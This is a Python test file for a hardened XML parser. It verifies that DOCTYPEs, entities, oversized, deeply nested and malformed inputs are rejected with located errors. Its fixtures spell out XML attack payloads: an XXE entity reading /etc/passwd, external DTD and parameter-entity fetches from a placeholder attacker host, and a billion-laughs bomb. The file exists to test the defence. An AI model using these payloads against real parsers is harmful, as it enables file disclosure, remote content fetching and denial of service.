"""Untrusted XML: no entities, no DTDs, no network, size limit before parsing, located errors."""
from __future__ import annotations

import time

import pytest

from engine import xmlsafe
from engine.errors import InvalidInput
from engine.xmlsafe import DEFAULT_MAX_BYTES, XmlRejected, parse_xml

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE definitions [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<definitions>&xxe;</definitions>
"""

XXE_NETWORK = b"""<?xml version="1.0"?>
<!DOCTYPE definitions SYSTEM "http://attacker.invalid/evil.dtd">
<definitions/>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE definitions [
  <!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd">
  %remote;
]>
<definitions/>
"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>
"""


def _rejected(data, name="f.bpmn", **kwargs) -> XmlRejected:
    with pytest.raises(XmlRejected) as info:
        parse_xml(data, name, **kwargs)
    err = info.value
    assert isinstance(err, InvalidInput)
    assert err.problems == [err.problem]
    assert err.problem.file == name
    return err


def test_well_formed_document_returns_the_tree():
    tree = parse_xml(b'<?xml version="1.0"?>\n<a x="1"><b>t</b></a>', "ok.bpmn")
    assert tree.getroot().tag == "a"
    assert tree.getroot()[0].sourceline == 2


def test_str_input_is_accepted():
    assert parse_xml("<a>中文</a>", "s.bpmn").getroot().text == "中文"


@pytest.mark.parametrize("data", [XXE_FILE, XXE_NETWORK, PARAMETER_ENTITY], ids=["file", "network", "parameter"])
def test_external_entities_and_dtds_are_refused(data):
    err = _rejected(data)
    assert "DOCTYPE" in err.problem.message
    assert err.problem.line == 2
    assert "root:" not in err.problem.message


def test_billion_laughs_is_refused_quickly():
    started = time.monotonic()
    err = _rejected(BILLION_LAUGHS)
    assert time.monotonic() - started < 1
    assert err.problem.line == 2


def test_entity_declaration_without_doctype_marker_is_refused():
    err = _rejected(b'<a><!ENTITY x "y"></a>')
    assert "entity declaration" in err.problem.message


def test_undeclared_entity_reference_is_a_parse_error():
    err = _rejected(b"<a>\n&foo;</a>")
    assert err.problem.line == 2
    assert "foo" in err.problem.message


def test_doctype_in_utf16_is_refused():
    data = '<?xml version="1.0" encoding="utf-16"?>\n<!DOCTYPE a [<!ENTITY x "y">]>\n<a>&x;</a>'.encode("utf-16")
    err = _rejected(data)
    assert "DOCTYPE" in err.problem.message


def test_parser_flags_alone_refuse_a_doctype(monkeypatch):
    """Defence in depth: even if the byte scan missed it, the parsed DOCTYPE is refused and nothing resolved."""
    monkeypatch.setattr(xmlsafe, "_DOCTYPE_MARKERS", ())
    monkeypatch.setattr(xmlsafe, "_ENTITY_MARKERS", ())
    err = _rejected(XXE_FILE)
    assert "DOCTYPE" in err.problem.message
    err = _rejected(BILLION_LAUGHS)
    assert "DOCTYPE" in err.problem.message or "entit" in err.problem.message.lower()


def test_parser_configuration():
    parser = xmlsafe._make_parser()
    # lxml does not expose the options; check behaviour: entities stay unresolved, DTD not loaded
    from lxml import etree

    root = etree.fromstring(XXE_FILE, parser)
    assert "root:" not in etree.tostring(root).decode()


def test_size_limit_is_checked_before_parsing():
    big = b"<" * (DEFAULT_MAX_BYTES + 1)  # not XML at all: the size must be reported, not a parse error
    err = _rejected(big)
    assert "limit" in err.problem.message and "bytes" in err.problem.message


def test_six_megabytes_is_too_large_by_default():
    data = b"<a>" + b"x" * (6 * 1024 * 1024) + b"</a>"
    err = _rejected(data, "big.bpmn")
    assert "big.bpmn" in err.problem.message


def test_size_limit_is_configurable():
    data = b"<a>" + b"x" * 100 + b"</a>"
    _rejected(data, max_bytes=50)
    assert parse_xml(data, "f.bpmn", max_bytes=200) is not None


@pytest.mark.parametrize("data", [b"", b"   \n\t "], ids=["empty", "blank"])
def test_empty_file(data):
    err = _rejected(data)
    assert "empty" in err.problem.message
    assert err.problem.line == 1


def test_malformed_xml_is_located():
    err = _rejected(b'<?xml version="1.0"?>\n<a>\n  <b>\n</a>', "broken.bpmn")
    assert err.problem.line == 4
    assert "broken.bpmn" in err.problem.message
    assert "line 4" in err.problem.message


def test_not_xml_at_all():
    err = _rejected(b"%PDF-1.7 binary", "x.bpmn")
    assert err.problem.line == 1


def test_excessive_nesting_is_refused():
    depth = 5000
    err = _rejected(b"<a>" * depth + b"</a>" * depth)
    assert "depth" in err.problem.message.lower()


def test_wrong_type():
    err = _rejected(12345)
    assert "bytes" in err.problem.message
